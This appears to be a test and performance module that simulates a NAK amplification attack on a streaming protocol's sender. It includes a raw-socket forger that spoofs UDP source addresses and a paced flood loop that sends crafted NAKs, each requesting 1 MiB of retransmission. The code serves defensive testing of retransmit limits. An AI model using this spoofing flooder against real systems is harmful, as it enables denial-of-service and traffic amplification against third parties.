"""Forged NAKs: the NAK amplification attack, as a child process the tests and ``perf/`` both run.

An attacker that knows a stream's session, stream and term (all on the wire) sends NAKs to the sending
driver, either with the honest receiver's own source address (forged through a raw IP socket: root
only) or from an address that receives nothing. A sender that resends all a NAK asks for turns a few
bytes in into a megabyte out. :func:`flood` is that attacker, paced at a rate, its NAKs made by a pattern
(:func:`stepped_naks_at`, :func:`naks_at_term_start`) for the receiver's current position.
"""

from __future__ import annotations

import socket
import struct
import time
from collections.abc import Callable
from typing import Any, Final

from logbuf.protocol import NakFrame

__all__ = ["FLOOD_RATE", "Forger", "flood", "naks_at_term_start", "stepped_naks_at"]

FLOOD_RATE: Final[int] = 3_000
"""Forged NAKs per second (84 KB/s). Retransmits are bounded in time (a quarter of the stream's rate plus
``retransmit-max-rate``), not per NAK, so an amplification ratio holds for a flood, not for a trickle."""

NakPattern = Callable[[int, int, int, int, int], list[bytes]]
"""``(session_id, stream_id, initial_term_id, term_length, position) -> NAK datagrams``."""


class Forger:
    """Sends UDP datagrams with any source address and port (IP_HDRINCL; the kernel fills in the IP
    checksum and total length, the UDP checksum is left 0, which IPv4 allows). Needs root."""

    def __init__(self) -> None:
        self.raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)

    def send(self, payload: bytes, source: tuple[str, int], destination: tuple[str, int]) -> None:
        ip = struct.pack(
            "!BBHHHBBH4s4s",
            0x45,
            0,
            20 + 8 + len(payload),
            0,
            0,
            64,
            socket.IPPROTO_UDP,
            0,
            socket.inet_aton(source[0]),
            socket.inet_aton(destination[0]),
        )
        udp = struct.pack("!HHHH", source[1], destination[1], 8 + len(payload), 0)
        self.raw.sendto(ip + udp + payload, (destination[0], 0))

    def close(self) -> None:
        self.raw.close()


def stepped_naks_at(
    session_id: int, stream_id: int, initial_term_id: int, term_length: int, position: int
) -> list[bytes]:
    """NAKs for a receiver at ``position``: offsets stepped by 32 from 4 KiB below it to 16 KiB above it,
    where what it has not yet reported consumed lies (defeating a linger keyed on the exact offset), and
    over the start of its term, each asking for 1 MiB."""
    term_id = initial_term_id + position // term_length
    offset = position % term_length
    offsets = list(range(max(0, offset - 4096), min(term_length, offset + 16384), 32)) + list(range(0, 2048, 32))
    return [NakFrame(session_id, stream_id, term_id, o, 1 << 20).encode() for o in offsets]


def naks_at_term_start(
    session_id: int, stream_id: int, initial_term_id: int, term_length: int, position: int
) -> list[bytes]:
    """The first attack measured: a NAK for 1 MiB from offset 0 of the receiver's term, again and again."""
    term_id = initial_term_id + position // term_length
    return [NakFrame(session_id, stream_id, term_id, 0, 1 << 20).encode()]


def flood(
    target: tuple[str, int],
    source: tuple[str, int],
    stream: tuple[int, int, int, int],
    position: Any,
    sent: Any,
    stop: Any,
    rate: int = FLOOD_RATE,
    pattern: NakPattern = stepped_naks_at,
) -> None:
    """A child process's target: NAKs to ``target`` from ``source`` (forged) at ``rate`` per second, made by
    ``pattern`` for ``stream`` (session id, stream id, initial term id, term length) at the receiver's
    ``position`` (a shared ``multiprocessing.Value`` the parent keeps current), until ``stop`` (an
    ``Event``) is set; ``sent`` (a shared ``Value``) counts them."""
    forger = Forger()
    started = time.monotonic()
    while not stop.is_set():
        for nak in pattern(*stream, position.value):
            while sent.value >= (time.monotonic() - started) * rate:
                time.sleep(0.001)  # pace: the flood's rate
            forger.send(nak, source, target)
            sent.value += 1
            if stop.is_set():
                break
    forger.close()
